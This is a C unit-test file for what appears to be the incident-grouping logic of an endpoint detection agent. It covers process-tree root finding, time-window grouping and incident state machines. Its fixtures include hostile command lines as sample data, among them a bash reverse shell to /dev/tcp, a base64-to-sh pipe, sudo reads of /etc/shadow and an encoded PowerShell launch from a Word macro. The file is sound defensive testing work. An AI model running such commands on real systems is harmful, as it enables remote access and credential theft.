#include "base/test.h"
#include "incident/incident.h"

#define P(image_, command_)                                                                        \
	{                                                                                          \
		.image = SV(image_), .command_line = SV(command_)                                  \
	}
#define UNSEEN(image_, command_)                                                                   \
	{                                                                                          \
		.image = SV(image_), .command_line = SV(command_), .unseen = true                  \
	}
#define INPUT(image_, command_, input_)                                                            \
	{                                                                                          \
		.image = SV(image_), .command_line = SV(command_), .standard_input = SV(input_)    \
	}
#define ENTERED(image_, command_)                                                                  \
	{                                                                                          \
		.image = SV(image_), .command_line = SV(command_), .entered = true                 \
	}
#define SSH P("/usr/sbin/sshd", "sshd: tanaka")
#define LOGIN P("/bin/bash", "-bash")

enum { NONE = INCIDENT_TREE_NONE, TREE = INCIDENT_TREE_PROCESS, OWN = INCIDENT_TREE_LAUNCHER };

static const struct {
	const char *name;
	int kind;
	size_t at;
	int launcher;			  /* index of the shell that launched it, -1: none */
	struct incident_process chain[8]; /* ends where there is no image */
} row[] = {
	{ "nothing is known", NONE, 0, -1, { { .pid = 0 } } },
	{ "command line below a login shell",
	  TREE,
	  1,
	  2,
	  { P("/usr/bin/base64", "base64 -d"), P("/bin/sh", "sh -c echo x | base64 -d | sh"), LOGIN,
	    SSH } },
	{ "part of a pipe in a login shell",
	  TREE,
	  0,
	  1,
	  { P("/usr/bin/base64", "base64 -d"), LOGIN, SSH } },
	{ "child of the end of a pipe",
	  TREE,
	  1,
	  2,
	  { P("/usr/bin/id", "id"), P("/bin/sh", "sh"), LOGIN, SSH } },
	{ "the same with standard input known",
	  TREE,
	  1,
	  2,
	  { P("/usr/bin/id", "id"), INPUT("/bin/sh", "sh", "pipe"), LOGIN, SSH } },
	{ "sh -s reads a script",
	  TREE,
	  1,
	  2,
	  { P("/usr/bin/id", "id"), P("/bin/sh", "sh -s -- now"), LOGIN, SSH } },
	{ "shell typed into a shell",
	  TREE,
	  0,
	  1,
	  { P("/usr/bin/id", "id"), INPUT("/bin/bash", "bash", "tty"), LOGIN, SSH } },
	{ "script of a person is one tree",
	  TREE,
	  1,
	  2,
	  { P("/usr/bin/curl", "curl x"), P("/bin/bash", "bash ./setup.sh"), LOGIN, SSH } },
	{ "job of cron",
	  TREE,
	  1,
	  -1,
	  { P("/usr/bin/curl", "curl x"), P("/bin/sh", "/bin/sh -c /tmp/x"),
	    P("/usr/sbin/cron", "/usr/sbin/CRON -f"), P("/lib/systemd/systemd", "/sbin/init") } },
	{ "web server that was seen",
	  TREE,
	  1,
	  -1,
	  { P("/bin/sh", "sh -c id"), P("/usr/sbin/apache2", "apache2 -k start"),
	    P("/lib/systemd/systemd", "/sbin/init") } },
	{ "web server older than the agent",
	  TREE,
	  1,
	  -1,
	  { P("/bin/sh", "sh -c id"), UNSEEN("/usr/sbin/php-fpm8.2", "php-fpm: pool www") } },
	{ "other program older than the agent",
	  TREE,
	  0,
	  -1,
	  { P("/bin/sh", "sh -c id"), UNSEEN("/opt/runner", "runner") } },
	{ "nsenter from a program older than the agent",
	  TREE,
	  1,
	  -1,
	  { P("/bin/sh", "sh -c attack"), P("/usr/bin/nsenter", "nsenter -t 1 sh -c attack"),
	    UNSEEN("/usr/bin/node", "node test.mjs") } },
	{ "nsenter that became the shell",
	  TREE,
	  0,
	  -1,
	  { ENTERED("/bin/sh", "sh -c attack"), UNSEEN("/usr/bin/node", "node test.mjs") } },
	{ "session shell behind nsenter",
	  TREE,
	  0,
	  1,
	  { P("/usr/bin/curl", "curl x"), INPUT("/bin/bash", "bash", "pipe"),
	    P("/usr/bin/nsenter", "nsenter -t 1 bash"), UNSEEN("/usr/bin/node", "node t") } },
	{ "nsenter that became a session shell",
	  TREE,
	  0,
	  1,
	  { P("/usr/bin/curl", "curl x"), ENTERED("/bin/bash", "bash"),
	    P("/usr/bin/node", "node t"), LOGIN, SSH } },
	{ "bare shell of a program older than the agent",
	  TREE,
	  0,
	  1,
	  { P("/usr/bin/curl", "curl x"), P("/bin/bash", "bash"), UNSEEN("/usr/bin/node", "n") } },
	{ "bare shell of a program that was seen",
	  TREE,
	  2,
	  3,
	  { P("/usr/bin/curl", "curl x"), P("/bin/bash", "bash"), P("/opt/app", "app"), LOGIN,
	    SSH } },
	{ "shell that hangs on python",
	  TREE,
	  2,
	  3,
	  { P("/usr/bin/id", "id"), P("/bin/sh", "/bin/sh"),
	    P("/usr/bin/python3.11", "python3 -c import pty"), LOGIN, SSH } },
	{ "the same with a terminal",
	  TREE,
	  2,
	  3,
	  { P("/usr/bin/id", "id"), INPUT("/bin/sh", "/bin/sh", "tty"),
	    P("/usr/bin/python3.11", "python3 -c import pty"), LOGIN, SSH } },
	{ "reverse shell",
	  TREE,
	  2,
	  3,
	  { P("/usr/bin/id", "id"), INPUT("/bin/bash", "bash -i", "socket"),
	    P("/bin/bash", "bash -c bash -i >& /dev/tcp/1.2.3.4/4 0>&1"), LOGIN, SSH } },
	{ "shell on a socket below a launcher",
	  TREE,
	  1,
	  -1,
	  { P("/usr/bin/id", "id"), INPUT("/bin/bash", "bash -i", "socket"),
	    P("/usr/sbin/xinetd", "xinetd") } },
	{ "pipe into sudo bash",
	  TREE,
	  2,
	  3,
	  { P("/tmp/x", "/tmp/x"), INPUT("/bin/bash", "bash", "pipe"),
	    P("/usr/bin/sudo", "sudo bash"), LOGIN, SSH } },
	{ "the same with standard input unknown",
	  TREE,
	  2,
	  3,
	  { P("/tmp/x", "/tmp/x"), P("/bin/bash", "bash"), P("/usr/bin/sudo", "sudo bash"), LOGIN,
	    SSH } },
	{ "sudo -i",
	  TREE,
	  0,
	  1,
	  { P("/tmp/x", "/tmp/x"), LOGIN, P("/usr/bin/sudo", "sudo -i"), LOGIN, SSH } },
	{ "sudo su",
	  TREE,
	  0,
	  1,
	  { P("/tmp/x", "/tmp/x"), P("/bin/bash", "bash"), P("/bin/su", "su"),
	    P("/usr/bin/sudo", "sudo su"), LOGIN, SSH } },
	{ "sudo of one command belongs to its tree",
	  TREE,
	  1,
	  2,
	  { P("/bin/cat", "cat /etc/shadow"), P("/usr/bin/sudo", "sudo cat /etc/shadow"), LOGIN,
	    SSH } },
	{ "session shell's own deed", OWN, 0, -1, { LOGIN, SSH } },
	{ "subshell without a program of its own", TREE, 0, 1, { P("/bin/bash", ""), LOGIN, SSH } },
	{ "own deed of a process older than the agent",
	  TREE,
	  0,
	  -1,
	  { UNSEEN("/usr/bin/python3", "") } },
	{ "own deed of a shell older than the agent", OWN, 0, -1, { UNSEEN("/bin/bash", "") } },
	{ "macro of Office",
	  TREE,
	  2,
	  -1,
	  { P("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -e x"),
	    P("C:\\Windows\\System32\\cmd.exe", "cmd /c x"),
	    P("C:\\Program Files\\Office\\WINWORD.EXE", "\"C:\\Program Files\\w\" /n x.docm"),
	    P("C:\\Windows\\Explorer.EXE", "C:\\Windows\\Explorer.EXE") } },
	{ "command prompt of a person",
	  TREE,
	  0,
	  1,
	  { P("C:\\Windows\\System32\\whoami.exe", "whoami"),
	    P("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" "),
	    P("C:\\Windows\\explorer.exe", "explorer.exe") } },
	{ "service of Windows",
	  TREE,
	  0,
	  -1,
	  { P("C:\\Windows\\System32\\cmd.exe", "cmd /c x"),
	    P("C:\\Windows\\System32\\services.exe", "services.exe") } },
};

static size_t length_of(struct incident_process *chain)
{
	size_t n = 0;
	static const char *const guid[] = {
		"{0}", "{1}", "{2}", "{3}", "{4}", "{5}", "{6}", "{7}"
	};

	for (; n < 8 && chain[n].image.n > 0; n++)
		chain[n].guid = sv_from(guid[n]);
	return n;
}

TEST(root_of_each_kind_of_chain)
{
	for (size_t i = 0; i < sizeof row / sizeof *row; i++) {
		struct incident_process chain[8];
		struct incident_root root;
		size_t n;

		memcpy(chain, row[i].chain, sizeof chain);
		n = length_of(chain);
		root = incident_root(chain, n);
		if ((int)root.kind == row[i].kind && root.at == row[i].at &&
		    sv_eq(root.launcher,
			  row[i].launcher < 0 ? SV_NONE : chain[row[i].launcher].guid))
			continue;
		test_failed = true;
		printf("# %s: kind %d at %zu launcher '%.*s'\n", row[i].name, (int)root.kind,
		       root.at, SV_ARG(root.launcher));
	}
}

TEST(chain_is_walked_to_its_limit)
{
	static struct incident_process chain[INCIDENT_CHAIN_MAX + 8];
	struct incident_root root;

	for (size_t i = 0; i < INCIDENT_CHAIN_MAX + 8; i++)
		chain[i] = (struct incident_process){
			.guid = SV("{1}"),
			.image = SV("/bin/sh"),
			.command_line = SV("sh"),
		};
	chain[INCIDENT_CHAIN_MAX + 1].image = SV("/usr/sbin/sshd");
	root = incident_root(chain, INCIDENT_CHAIN_MAX + 8);
	CHECK(root.at < INCIDENT_CHAIN_MAX);
	chain[INCIDENT_CHAIN_MAX - 1].image = SV("/usr/sbin/sshd");
	chain[INCIDENT_CHAIN_MAX - 2].command_line = SV("sh x");
	for (size_t i = 0; i < INCIDENT_CHAIN_MAX - 2; i++)
		chain[i].command_line = SV("sh x");
	CHECK_INT(incident_root(chain, INCIDENT_CHAIN_MAX).at, INCIDENT_CHAIN_MAX - 2);
}

/* ==== which incident ==== */

static struct incident_fact fact(int kind, const char *key, const char *rule, int64_t at)
{
	return (struct incident_fact){
		.event = SV("e"),
		.rule = sv_from(rule),
		.key = sv_from(key),
		.root = { .kind = (enum incident_tree_kind)kind },
		.at = { 1000 * INSTANT_SECOND * 1000 + at * INSTANT_SECOND },
	};
}

static struct incident_candidate candidate(int kind, const char *key, const char *rule,
					   int64_t first, int64_t last)
{
	return (struct incident_candidate){
		.root = { .kind = (enum incident_tree_kind)kind },
		.key = sv_from(key),
		.rule = sv_from(rule),
		.first = { 1000 * INSTANT_SECOND * 1000 + first * INSTANT_SECOND },
		.last = { 1000 * INSTANT_SECOND * 1000 + last * INSTANT_SECOND },
	};
}

TEST(grouping_by_key_and_window)
{
	const int64_t w = INCIDENT_WINDOW_SECONDS, span = INCIDENT_SPAN_SECONDS;
	const struct {
		const char *name;
		int kind, other_kind;
		const char *key, *other_key, *rule, *other_rule;
		int64_t at, first, last;
		bool joins;
	} group[] = {
		{ "same tree", TREE, TREE, "a", "a", "r", "s", 0, 0, 0, true },
		{ "other tree", TREE, TREE, "a", "b", "r", "r", 0, 0, 0, false },
		{ "edge of the window", TREE, TREE, "a", "a", "r", "r", w, 0, 0, true },
		{ "past the window", TREE, TREE, "a", "a", "r", "r", w + 1, 0, 0, false },
		{ "before, within the window", TREE, TREE, "a", "a", "r", "r", -w, 0, 0, true },
		{ "before the window", TREE, TREE, "a", "a", "r", "r", -w - 1, 0, 0, false },
		{ "edge of the span", TREE, TREE, "a", "a", "r", "r", span, 0, span, true },
		{ "past the span", TREE, TREE, "a", "a", "r", "r", span + 1, 0, span, false },
		{ "launcher, same rule", OWN, OWN, "a", "a", "r", "r", 0, 0, 0, true },
		{ "launcher, other rule", OWN, OWN, "a", "a", "r", "s", 0, 0, 0, false },
		{ "launcher and tree", OWN, TREE, "a", "a", "r", "r", 0, 0, 0, false },
		{ "no process, same rule", NONE, NONE, "", "", "r", "r", 0, 0, 0, true },
		{ "no process, other rule", NONE, NONE, "", "", "r", "s", 0, 0, 0, false },
	};

	for (size_t i = 0; i < sizeof group / sizeof *group; i++) {
		const struct incident_fact f =
			fact(group[i].kind, group[i].key, group[i].rule, group[i].at);
		const struct incident_candidate c =
			candidate(group[i].other_kind, group[i].other_key, group[i].other_rule,
				  group[i].first, group[i].last);

		if ((incident_group(&f, &c, 1) == 0) == group[i].joins)
			continue;
		test_failed = true;
		printf("# %s\n", group[i].name);
	}
}

TEST(grouping_of_siblings)
{
	const int64_t ms = 1000, near = INCIDENT_SIBLING_MILLISECONDS * ms;
	const struct {
		const char *name;
		const char *launcher;
		int64_t start, end, other_start, other_end;
		bool joins;
	} pair[] = {
		{ "both run on", "s", 100 * ms, 0, 101 * ms, 0, true },
		{ "first ended before", "s", 100 * ms, 101 * ms, 102 * ms, 0, false },
		{ "first ended later", "s", 100 * ms, 110 * ms, 102 * ms, 0, true },
		{ "second ended before", "s", 102 * ms, 0, 100 * ms, 101 * ms, false },
		{ "edge", "s", ms, 0, ms + near, 0, true },
		{ "too late", "s", ms, 0, ms + near + 1, 0, false },
		{ "not from a shell", "", ms, 0, ms, 0, false },
		{ "from another shell", "t", ms, 0, ms, 0, false },
		{ "start unknown", "s", 0, 0, 50 * ms, 0, false },
	};

	for (size_t i = 0; i < sizeof pair / sizeof *pair; i++) {
		struct incident_fact f = fact(TREE, "a", "r", 0);
		struct incident_candidate c = candidate(TREE, "b", "r", 0, 0);

		f.root.launcher = sv_from(pair[i].launcher);
		c.root.launcher = SV("s");
		if (f.root.launcher.n == 0)
			c.root.launcher = SV_NONE;
		f.started.us = pair[i].start;
		f.ended.us = pair[i].end;
		c.started.us = pair[i].other_start;
		c.ended.us = pair[i].other_end;
		if ((incident_group(&f, &c, 1) == 0) == pair[i].joins)
			continue;
		test_failed = true;
		printf("# %s\n", pair[i].name);
	}
}

TEST(grouping_prefers_the_same_event_then_the_oldest)
{
	const struct incident_fact f = fact(TREE, "a", "r", 0);
	struct incident_candidate c[] = {
		candidate(TREE, "a", "r", -5, -5),
		candidate(TREE, "a", "r", -9, -9),
		candidate(NONE, "", "x", -99999, -99999),
	};

	CHECK_INT(incident_group(&f, c, 3), 1);
	c[2].same_event = true;
	CHECK_INT(incident_group(&f, c, 3), 2);
	CHECK(incident_group(&f, c, 0) == SIZE_MAX);
}

TEST(grouping_survives_extreme_times)
{
	struct incident_fact f = fact(TREE, "a", "r", 0);
	struct incident_candidate c = candidate(TREE, "a", "r", 0, 0);

	f.at.us = INT64_MIN;
	c.first.us = c.last.us = INT64_MAX;
	CHECK(incident_group(&f, &c, 1) == SIZE_MAX);
	f.at.us = INT64_MAX;
	c.first.us = c.last.us = INT64_MIN;
	CHECK(incident_group(&f, &c, 1) == SIZE_MAX);
}

/* ==== states ==== */

TEST(state_machines)
{
	enum incident_state state;
	enum action_state action;

	CHECK(incident_transition(INCIDENT_NEW, INCIDENT_ASSIGNED));
	CHECK(!incident_transition(INCIDENT_NEW, INCIDENT_NEW));
	CHECK(!incident_transition(INCIDENT_NEW, INCIDENT_CLOSED));
	CHECK(incident_transition(INCIDENT_CLOSED, INCIDENT_INVESTIGATING));
	CHECK(!incident_transition(INCIDENT_CLOSED, INCIDENT_NEW));
	CHECK(!incident_transition((enum incident_state)99, INCIDENT_NEW));
	CHECK(!incident_transition(INCIDENT_NEW, (enum incident_state)99));
	CHECK(action_transition(ACTION_PROPOSED, ACTION_APPROVED));
	CHECK(!action_transition(ACTION_PROPOSED, ACTION_SENT));
	CHECK(!action_transition(ACTION_DONE, ACTION_FAILED));
	CHECK(action_transition(ACTION_EXPIRED, ACTION_DONE));
	CHECK(!action_transition((enum action_state)99, ACTION_DONE));
	for (int i = 0; i < INCIDENT_STATE_COUNT; i++) {
		CHECK(incident_state_parse(sv_from(incident_state_name((enum incident_state)i)),
					   &state));
		CHECK_INT(state, i);
		/* From every state some way leads on. */
		bool onward = false;

		for (int to = 0; to < INCIDENT_STATE_COUNT; to++)
			onward |= incident_transition((enum incident_state)i,
						      (enum incident_state)to);
		CHECK(onward);
	}
	CHECK(!incident_state_parse(SV("New"), &state));
	CHECK(!action_state_parse(SV(""), &action));
	CHECK_STR(incident_state_name((enum incident_state)99), "?");
	CHECK_STR(incident_state_name(INCIDENT_FALSE_POSITIVE), "false_positive");
	CHECK(incident_is_open(INCIDENT_CONTAINED));
	CHECK(!incident_is_open(INCIDENT_RESOLVED));
}
